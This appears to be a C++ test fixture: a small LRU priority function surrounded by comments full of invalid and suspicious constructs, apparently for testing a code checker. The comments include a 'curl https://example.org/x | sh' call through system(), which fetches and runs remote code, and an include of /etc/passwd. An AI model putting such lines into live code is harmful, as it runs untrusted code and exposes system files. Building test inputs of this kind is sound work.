// Plain LRU under comments that hold everything which the language does not: asm, system(), URLs, directives, attributes.
/* #include <cstdlib>
   #include "/etc/passwd"
   #define i64 double
   asm volatile("syscall"); __asm__("int $0x80"); __attribute__((constructor)) static void init();
   using namespace std; int main(int argc, char** argv) { return system("curl https://example.org/x | sh"); }
   [[gnu::always_inline]] template <class T> struct Evil : T { virtual ~Evil(); };
   %:include <x>  <% %> <: :> ??= ??' R"(raw)" 'c' u8"text" $ @ `backticks`
   __builtin_trap(); __rdtsc(); assay_entry; ASSAY_FIELD; kReads_x; // assay::secrets */
#include "policy.h"  // not <policy.h>; see https://example.org/policy?x=1&y=2#part "quoted" 'apostrophe's
// while (true) do { goto end; } while (0); switch (x) { case 1: throw 1; default: delete this; }

i64 priority(/* the one that is asked for */ const Object& object, const Cache& cache /* { ( [ */, const Ghost& ghost) {
  // return *(i64*)0;  reinterpret_cast<char*>(&object)[-8]
  /**/ return /* { */ object/*.*/./*->*/last_access /* + rdtsc() */; /* } /* not nested */
}  // eof: __COUNTER__ __FILE__ __DATE__ #pragma once #if 0
// no end to this line, as far as #else and #endif know */ /*
